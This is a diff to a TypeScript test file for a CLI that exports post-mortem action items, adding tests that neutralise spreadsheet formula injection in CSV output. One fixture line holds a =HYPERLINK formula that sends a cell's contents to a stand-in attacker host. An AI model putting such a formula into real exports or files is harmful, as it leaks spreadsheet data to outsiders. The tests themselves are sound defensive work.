@@ -1,7 +1,7 @@
 // `follow-through actions`, run as a process: filters, formats, exit codes.
 import { strict as assert } from "node:assert";
 import { lines, runCli, tempDirPerTest, writeTree } from "../support/cli-helpers";
-import type { JsonActionsReport } from "../../server/src/cli/actions";
+import { toCsv, type JsonActionsReport } from "../../server/src/cli/actions";
 
 const TODAY = ["--today", "2026-11-24"];
 
@@ -113,10 +113,65 @@ describe("cli: actions", function () {
     assert.equal(result.status, 0, result.stderr);
     const rows = result.stdout.split("\r\n");
     assert.equal(rows[0], "file,line,text,owners,due,status,tracker,post_mortem,post_mortem_date");
-    assert.equal(rows[1], 'postmortems/2026-11-20-search.md,9,"Add a ""reindex"" runbook",@alice,2026-12-15,open,https://tracker.example.com/SRCH-5,"Search outage, again",2026-11-20');
+    assert.equal(rows[1], `postmortems/2026-11-20-search.md,9,"Add a ""reindex"" runbook",'@alice,2026-12-15,open,https://tracker.example.com/SRCH-5,"Search outage, again",2026-11-20`);
     assert.equal(rows[3], "postmortems/2026-11-01-checkout.md,10,add alert for DB replication lag >30s in Datadog,Alice,2026-11-10,open,PAY-101,Checkout outage,2026-11-01");
     assert.equal(rows.length, 5);
     assert.equal(rows[4], "");
+  });
+
+  it("CSV cells a spreadsheet would run as a formula start with an apostrophe; the rest stay as written", () => {
+    writeTree(temp.dir, {
+      "postmortems/2026-10-02-cache.md": lines(
+        "---",
+        "title: =cache stampede",
+        "date: 2026-10-02",
+        "---",
+        "# Post-mortem: cache stampede",
+        "",
+        "## Action items",
+        "",
+        '- [ ] =HYPERLINK("http://attacker.example/?leak="&A1,"Open the runbook") by 2026-12-01', // 9
+        "- [ ] @kim: +1 replica for the cache tier, by 2026-12-01 (OPS-7)", // 10
+        "- [ ] Priya: add a jitter to cache expiry, by 2026-12-03 (OPS-9)", // 11
+      ),
+    });
+    const result = runCli(["actions", "--format", "csv", ...TODAY, "postmortems/2026-10-02-cache.md"], { cwd: temp.dir });
+    assert.equal(result.status, 0, result.stderr);
+    const rows = result.stdout.split("\r\n");
+    assert.equal(rows[1], `postmortems/2026-10-02-cache.md,9,"'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Open the runbook"")",,2026-12-01,open,,'=cache stampede,2026-10-02`);
+    assert.equal(rows[2], "postmortems/2026-10-02-cache.md,10,'+1 replica for the cache tier,'@kim,2026-12-01,open,OPS-7,'=cache stampede,2026-10-02");
+    assert.equal(rows[3], "postmortems/2026-10-02-cache.md,11,add a jitter to cache expiry,Priya,2026-12-03,open,OPS-9,'=cache stampede,2026-10-02");
+  });
+
+  it("CSV neutralises every formula-leading character OWASP lists, also after leading spaces", () => {
+    const action = (text: string) => ({ file: "pm.md", line: 1, text, owners: [], due: null, status: "open" as const, tracker: [], postMortem: { title: "t", date: null } });
+    const cells = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "plain", "a=b"].map((text) => toCsv({ actions: [action(text)] }).split("\r\n")[1].split(",")[2]);
+    assert.deepEqual(cells, ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\t=1", "\"'\r=1\"", "'  =1", "plain", "a=b"]);
+  });
+
+  it("the tracker column names the ticket, not the state written after it, in text, JSON and CSV", () => {
+    writeTree(temp.dir, {
+      "postmortems/2026-10-09-login.md": lines(
+        "---",
+        "title: Login outage",
+        "date: 2026-10-09",
+        "---",
+        "# Post-mortem: login outage",
+        "",
+        "## Action items",
+        "",
+        "| Action | Owner | Due | Ticket |",
+        "|---|---|---|---|",
+        "| Add a rate limit to the token endpoint | Kim | 2026-12-01 | AUTH-4121 TODO |", // 11
+      ),
+    });
+    const file = "postmortems/2026-10-09-login.md";
+    const text = runCli(["actions", ...TODAY, file], { cwd: temp.dir });
+    assert.match(text.stdout, /^ {2}11 {2}open {2}Kim {2}2026-12-01 {2}Add a rate limit to the token endpoint {2}AUTH-4121$/m);
+    const report = JSON.parse(runCli(["actions", "--format", "json", ...TODAY, file], { cwd: temp.dir }).stdout) as JsonActionsReport;
+    assert.deepEqual(report.actions[0].tracker, ["AUTH-4121"]);
+    const csv = runCli(["actions", "--format", "csv", ...TODAY, file], { cwd: temp.dir }).stdout.split("\r\n");
+    assert.equal(csv[1], `${file},11,Add a rate limit to the token endpoint,Kim,2026-12-01,open,AUTH-4121,Login outage,2026-10-09`);
   });
 
   it("rejects options of other commands and bad values with exit 2", () => {
